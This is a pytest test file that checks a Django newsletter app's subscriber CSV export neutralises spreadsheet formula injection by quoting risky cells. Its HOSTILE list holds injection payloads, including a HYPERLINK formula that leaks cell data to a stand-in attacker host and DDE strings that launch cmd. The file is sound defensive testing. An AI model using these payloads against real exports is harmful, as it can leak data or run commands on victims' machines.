"""The subscribers' CSV export: what a visitor typed never reaches a spreadsheet as a formula."""

import csv
import io

import pytest

from tests.factories.subscribers import SubscriberFactory, SubscriptionFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://pirate.example/?d="&A2,"Cliquez")',
    "+33 1 23 45 67 89",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _export(admin_client) -> list[dict[str, str]]:
    response = admin_client.get("/admin/abonnes/", {"export": "csv"})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_export__formula_in_name_and_organisation_is_quoted(admin_client, resonances, text):
    subscriber = SubscriberFactory(email="visiteur@example.org", name=text, organisation=text)
    SubscriptionFactory(subscriber=subscriber, newsletter_list=resonances)
    (row,) = _export(admin_client)
    assert row["Nom"] == f"'{text}"
    assert row["Organisme"] == f"'{text}"


def test_csv_export__plain_text_is_left_as_typed(admin_client, resonances):
    SubscriberFactory(email="ines@example.org", name="Inès Benali-Durand", organisation="Ville de Saint-Denis")
    (row,) = _export(admin_client)
    assert row["Nom"] == "Inès Benali-Durand"
    assert row["Organisme"] == "Ville de Saint-Denis"
    assert row["Adresse électronique"] == "ines@example.org"
